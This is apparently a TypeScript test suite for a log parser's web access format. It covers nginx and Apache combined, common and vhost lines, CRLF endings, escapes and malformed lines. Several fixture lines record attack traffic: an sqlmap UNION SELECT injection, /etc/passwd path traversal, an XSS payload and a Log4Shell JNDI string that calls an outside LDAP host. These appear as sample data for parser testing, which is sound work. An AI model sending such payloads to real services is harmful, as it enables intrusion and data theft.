// Tests for the 'access' format: combined, common and vhost_combined lines from the nginx and Apache fixtures.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { webAccess } from '../../src/formats/web-access.js';
import type { ParsedLine } from '../../src/types.js';
import { SKIP } from '../../src/types.js';
import { fixture } from '../helpers/paths.js';

const ctx = { reference: new Date('2026-11-26T12:00:00Z') };

/** The fixture's lines as the record stage gives them: split on LF, a trailing CR removed. */
function lines(...path: string[]): string[] {
  return readFileSync(fixture(...path), 'utf8').split('\n').filter((l) => l !== '').map((l) => (l.endsWith('\r') ? l.slice(0, -1) : l));
}

/** The record with its time as an ISO string, so that expectations read like the log. */
function parse(line: string): (Omit<ParsedLine, 'time'> & { time: string | null }) | null {
  const r = webAccess.createParser(ctx)(line);
  if (r === null) return null;
  assert.notEqual(r, SKIP);
  const p = r as ParsedLine;
  return { ...p, time: p.time === null ? null : new Date(p.time).toISOString() };
}

const nginx = lines('logs', 'nginx', 'access.log');
const rotated = lines('logs', 'nginx', 'access.log.1');
const vhosts = lines('logs', 'apache', 'other_vhosts_access.log');

describe('access: nginx combined', () => {
  it('parses a plain combined line', () => {
    assert.deepEqual(parse(nginx[1]!), {
      time: '2026-11-23T06:25:01.000Z',
      host: null,
      program: null,
      pid: null,
      level: null,
      message: 'GET /static/app.css HTTP/1.1 200',
      fields: {
        ip: '203.0.113.10',
        request: 'GET /static/app.css HTTP/1.1',
        method: 'GET',
        url: '/static/app.css',
        protocol: 'HTTP/1.1',
        status: '200',
        bytes: '10421',
        referer: 'https://shop.example.com/',
        agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
      },
      foreignText: true,
    });
  });

  it('keeps an sqlmap request and agent as written (percent-encoding untouched)', () => {
    const r = parse(nginx[5]!);
    assert.equal(r?.fields.url, '/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-');
    assert.equal(r?.fields.agent, 'sqlmap/1.7.11#stable (https://sqlmap.org)');
    assert.equal(r?.fields.status, '500');
    assert.equal(r?.fields.bytes, '0');
    assert.equal(r?.fields.referer, undefined, "'-' is a missing value");
  });

  it('reads an IPv6 client and HTTP/2.0', () => {
    const r = parse(nginx[8]!);
    assert.equal(r?.fields.ip, '2001:db8:85a3::8a2e:370:7334');
    assert.equal(r?.fields.url, '/download?file=../../../../etc/passwd');
    assert.equal(r?.fields.protocol, 'HTTP/2.0');
    assert.equal(r?.message, 'GET /download?file=../../../../etc/passwd HTTP/2.0 400');
    assert.equal(parse(nginx[16]!)?.fields.ip, '::1');
  });

  it('keeps a Log4Shell user agent', () => {
    assert.equal(parse(nginx[9]!)?.fields.agent, '${jndi:ldap://203.0.113.200:1389/Exploit}');
  });

  it('reads the user field and leaves it out when it is -', () => {
    assert.deepEqual(parse(nginx[11]!)?.fields, {
      ip: '198.51.100.23', user: 'frank', request: 'GET /admin/ HTTP/1.1', method: 'GET', url: '/admin/',
      protocol: 'HTTP/1.1', status: '401', bytes: '179', agent: 'curl/8.5.0',
    });
    assert.equal(parse(nginx[12]!)?.fields.user, undefined);
  });

  it('still makes a record of a TLS handshake on the plain port, method and url empty', () => {
    assert.deepEqual(parse(nginx[13]!), {
      time: '2026-11-23T08:22:17.000Z',
      host: null,
      program: null,
      pid: null,
      level: null,
      message: '\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03\\xC2 400',
      fields: {
        ip: '192.0.2.44',
        request: '\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03\\xC2',
        method: '',
        url: '',
        status: '400',
        bytes: '157',
      },
      foreignText: true,
    });
  });

  it('makes a record of the request "-"', () => {
    const r = parse(nginx[14]!);
    assert.equal(r?.message, '- 400');
    assert.equal(r?.fields.method, '');
    assert.equal(r?.fields.url, '');
    assert.equal(r?.fields.request, '-');
  });

  it('keeps nginx \\x22 escapes in url and agent, and applies the +0100 offset', () => {
    const r = parse(nginx[15]!);
    assert.equal(r?.time, '2026-11-23T08:41:03.000Z');
    assert.equal(r?.fields.url, '/api/v1/search?q=\\x22%3E%3Csvg/onload=alert(1)%3E');
    assert.equal(r?.fields.agent, 'Mozilla/5.0 \\x22quoted\\x22 agent');
  });

  it('parses every line of the fixture', () => {
    assert.equal(nginx.length, 18);
    assert.deepEqual(nginx.filter((l) => parse(l) === null), []);
  });
});

describe('access: extra trailing fields, CRLF, rotated file', () => {
  it('reads $request_time and a quoted X-Forwarded-For list', () => {
    assert.deepEqual(parse(rotated[1]!)?.fields, {
      ip: '10.0.0.5', request: 'GET /api/items?page=2 HTTP/1.1', method: 'GET', url: '/api/items?page=2',
      protocol: 'HTTP/1.1', status: '200', bytes: '812', referer: 'https://shop.example.com/', agent: 'Mozilla/5.0',
      x_forwarded_for: '203.0.113.50, 10.0.0.1', extra: '0.004',
    });
  });

  it('reads status 499 and a single forwarded address', () => {
    const r = parse(rotated[2]!);
    assert.equal(r?.fields.status, '499');
    assert.equal(r?.fields.x_forwarded_for, '198.51.100.9');
    assert.equal(r?.fields.extra, '30.002');
    assert.equal(r?.time, '2026-11-23T00:00:01.000Z');
  });

  it('parses a user agent with bytes that are not UTF-8 (decoded as U+FFFD)', () => {
    assert.equal(parse(rotated[3]!)?.fields.agent, 'Mozilla/5.0 \ufffd\ufffd broken');
  });

  it('parses a line that still ends with CR', () => {
    const r = parse(rotated[0]! + '\r');
    assert.equal(r?.fields.status, '200');
    assert.equal(r?.fields.agent, 'kube-probe/1.30');
  });
});

describe('access: Apache vhost_combined and common', () => {
  it('reads the leading vhost:port', () => {
    assert.deepEqual(parse(vhosts[4]!), {
      time: '2026-11-23T09:05:00.000Z',
      host: null,
      program: null,
      pid: null,
      level: null,
      message: 'GET /reports/q3.pdf HTTP/1.1 200',
      fields: {
        vhost: 'intranet.example.com',
        server_port: '443',
        ip: '192.0.2.30',
        user: 'alice',
        request: 'GET /reports/q3.pdf HTTP/1.1',
        method: 'GET',
        url: '/reports/q3.pdf',
        protocol: 'HTTP/1.1',
        status: '200',
        bytes: '88213',
        referer: 'https://intranet.example.com/reports/',
        agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
      },
      foreignText: true,
    });
  });

  it('reads a bracketed IPv6 vhost and Apache \\" escapes in the agent', () => {
    const r = parse(vhosts[6]!);
    assert.equal(r?.fields.vhost, '2001:db8::1');
    assert.equal(r?.fields.server_port, '443');
    assert.equal(r?.fields.ip, '2001:db8::beef');
    assert.equal(r?.fields.agent, 'Mozilla/5.0 \\"Fake\\" Browser');
  });

  it('reads OPTIONS * with bytes -', () => {
    const r = parse(vhosts[8]!);
    assert.equal(r?.fields.url, '*');
    assert.equal(r?.fields.bytes, undefined);
    assert.equal(r?.fields.protocol, 'HTTP/1.0');
  });

  it('parses every line of the fixture', () => {
    assert.equal(vhosts.length, 9);
    assert.deepEqual(vhosts.filter((l) => parse(l) === null), []);
  });

  it('parses the common format (no referer, no agent)', () => {
    assert.deepEqual(parse('192.0.2.7 - - [01/Jan/2026:00:00:00 -0500] "GET /index.html HTTP/1.0" 304 -'), {
      time: '2026-01-01T05:00:00.000Z',
      host: null,
      program: null,
      pid: null,
      level: null,
      message: 'GET /index.html HTTP/1.0 304',
      fields: { ip: '192.0.2.7', request: 'GET /index.html HTTP/1.0', method: 'GET', url: '/index.html', protocol: 'HTTP/1.0', status: '304' },
      foreignText: true,
    });
  });

  it('keeps a user name with a space, and tells it from a vhost layout by the ident -', () => {
    const r = parse('192.0.2.7 - john smith [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1');
    assert.equal(r?.fields.user, 'john smith');
    assert.equal(r?.fields.vhost, undefined);
    assert.equal(r?.fields.ip, '192.0.2.7');
  });

  it('reads the client part the same way whether or not it is the common `ip - - [`', () => {
    const prefix = (p: string): Record<string, string> | undefined => parse(`${p} [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1`)?.fields;
    assert.deepEqual(prefix('192.0.2.7 - -'), { ip: '192.0.2.7', request: 'GET / HTTP/1.1', method: 'GET', url: '/', protocol: 'HTTP/1.1', status: '200', bytes: '1' });
    assert.equal(prefix('2001:db8::1 - -')?.ip, '2001:db8::1');
    assert.deepEqual([prefix('- - -')?.ip, prefix('- - -')?.user], ['-', undefined]);
    assert.deepEqual([prefix('192.0.2.7 - bob')?.ip, prefix('192.0.2.7 - bob')?.user], ['192.0.2.7', 'bob']);
    assert.deepEqual([prefix('192.0.2.7 x -')?.ip, prefix('192.0.2.7 x -')?.user], ['192.0.2.7', undefined]);
    assert.deepEqual([prefix('web 192.0.2.7 - -')?.vhost, prefix('web 192.0.2.7 - -')?.ip], ['web', '192.0.2.7']);
    assert.equal(prefix('192.0.2.7  - -'), undefined); // two spaces: no ident
  });

  it('finds the status after an unescaped quote inside the request', () => {
    const r = parse('192.0.2.8 - - [01/Jan/2026:00:00:00 +0000] "GET /a"b HTTP/1.1" 404 12 "-" "x"');
    assert.equal(r?.fields.request, 'GET /a"b HTTP/1.1');
    assert.equal(r?.fields.url, '/a"b');
    assert.equal(r?.fields.status, '404');
    assert.equal(r?.fields.agent, 'x');
  });

  it('keeps a request target that has no protocol (HTTP/0.9 style)', () => {
    const r = parse('192.0.2.9 - - [01/Jan/2026:00:00:00 +0000] "GET /../../etc/passwd" 400 0 "-" "-"');
    assert.equal(r?.fields.method, 'GET');
    assert.equal(r?.fields.url, '/../../etc/passwd');
    assert.equal(r?.fields.protocol, undefined);
  });
});

describe('access: what is not an access line', () => {
  const others = [
    'Nov 23 10:00:00 web-1 sshd[1234]: Failed password for root from 203.0.113.9 port 52144 ssh2',
    '2026/11/23 06:31:12 [error] 29#29: *1043 open() "/x" failed, client: 198.51.100.77',
    '127.0.0.1 - - [23/Nov/2026 10:00:00] "POST /api/register HTTP/1.1" 200 -',
    '{"level":30,"msg":"hi"}',
    '192.0.2.7 - - [23/Nov/2026:10:00:00 +0000] "GET /index.html HTTP/1.1',
    '192.0.2.7 - - [30/Feb/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    '192.0.2.7 - - [23/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1"',
    '192.0.2.7 - - [23/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 12abc',
    '',
  ];
  for (const line of others) {
    it(`refuses ${JSON.stringify(line.slice(0, 60))}`, () => {
      assert.equal(parse(line), null);
    });
  }
  it('probe refuses them except the truncated and broken access lines', () => {
    assert.deepEqual(others.map((l) => webAccess.probe(l)), [false, false, false, false, true, true, true, true, false]);
  });
});

describe('access: samples', () => {
  for (const s of webAccess.samples) {
    it(`parses and probes ${s.slice(0, 50)}`, () => {
      assert.equal(webAccess.probe(s), true);
      assert.notEqual(parse(s), null);
    });
  }
});
